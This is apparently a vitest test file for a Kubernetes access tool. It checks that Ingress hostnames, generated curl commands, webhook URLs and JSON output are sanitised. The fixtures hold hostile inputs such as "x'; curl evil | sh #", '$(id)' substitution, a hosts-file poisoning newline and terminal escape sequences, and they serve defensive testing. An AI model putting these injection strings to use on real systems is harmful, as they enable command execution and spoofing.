import { afterEach, describe, expect, it, vi } from 'vitest';
import { printJson } from '../../src/cli/output.ts';
import { collectAccess } from '../../src/cluster/access/collect-access.ts';
import type { Connection } from '../../src/cluster/connection.ts';
import { callWebhook } from '../../src/sandbox/api/admission/webhooks/call.ts';
import type { Webhook } from '../../src/sandbox/api/admission/webhooks/webhook.ts';

afterEach(() => void vi.restoreAllMocks());

const found = vi.hoisted((): { object: unknown } => ({ object: undefined }));
vi.mock('../../src/cluster/objects.ts', async (load) => ({
  ...(await load<typeof import('../../src/cluster/objects.ts')>()),
  getObject: async () => found.object,
}));

/** A cluster whose Ingress says what no real API server would take. */
function clusterWith(hosts: readonly unknown[], ip = '203.0.113.7'): Connection {
  const ingress = {
    apiVersion: 'networking.k8s.io/v1',
    kind: 'Ingress',
    metadata: { name: 'web', namespace: 'x' },
    spec: { rules: hosts.map((host) => ({ host })), tls: [{ hosts }] },
    status: { loadBalancer: { ingress: [{ ip }] } },
  };
  found.object = ingress;
  return { info: {} } as unknown as Connection;
}

const surroundings = { resolve: async () => [], probe: async () => ({ reached: false as const, reason: 'no' }) };
const wanted = { title: 'Web', path: '/a;$(id)', ingress: 'web' };
const look = (connection: Connection, path = wanted.path) =>
  collectAccess(
    connection,
    { namespace: 'x', access: [{ ...wanted, path }] as never },
    new AbortController().signal,
    surroundings,
  );

describe('lines about an Ingress that people copy', () => {
  it('hold names and addresses, and nothing else that it says', async () => {
    const evil = ["x'; curl evil | sh #", 'a\n0.0.0.0 bank.example', '\u001b]52;c;eA==\u0007', '$(id)', '-x', '', 7];
    const [point] = await look(clusterWith([...evil, 'good.example', '*.wild.example']));
    expect(point?.hostsLine).toBe('203.0.113.7 good.example');
    expect(point?.hosts.map(({ name }) => name)).toEqual(['good.example', '*.wild.example']);
    expect(point?.urls).toEqual(['https://good.example/a;$(id)']);
    expect(point?.curl?.replace(/'[^']*'/g, '')).not.toMatch(/[;$]/);
  });

  it('hold no address that is none', async () => {
    const [point] = await look(clusterWith([], 'evil.example/x y'));
    expect(point?.hostsLine).toBeUndefined();
    expect(point?.urls.filter((url) => /\s/.test(url))).toEqual([]);
  });
});

describe('a webhook of the sandbox', () => {
  const ask = (url: string) =>
    callWebhook(
      { name: 'w', url, reviewVersion: 'v1', timeoutSeconds: 2, authority: '' } as unknown as Webhook,
      {
        resource: {},
        kind: {},
        operation: 'CREATE',
        context: {},
        name: 'x',
        object: { metadata: {} },
        user: { name: 'x', groups: [], extra: {} },
      } as never,
    );

  it.each(['https://198.51.100.7/judge', 'https://[2001:db8::1]/judge', 'https://10.0.0.1/', 'https://0.0.0.0/'])(
    'is not asked at %s: objects, Secrets among them, stay on this machine',
    async (url) => {
      expect(await ask(url)).toEqual({ failure: expect.stringContaining('of this machine only') });
    },
  );
});

it('JSON holds nothing that a terminal obeys, and is the same for whoever parses it', () => {
  const value = { text: 'a\u009b31mb\u007f\u202ec\u001b[0m\u2066', '\u009b': 1 };
  let written = '';
  vi.spyOn(process.stdout, 'write').mockImplementation((text) => {
    written += String(text);
    return true;
  });
  printJson(value);
  printJson(value, 2);
  vi.restoreAllMocks();
  expect(written).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  expect(JSON.parse(written.split('\n')[0] ?? '')).toEqual(value);
});
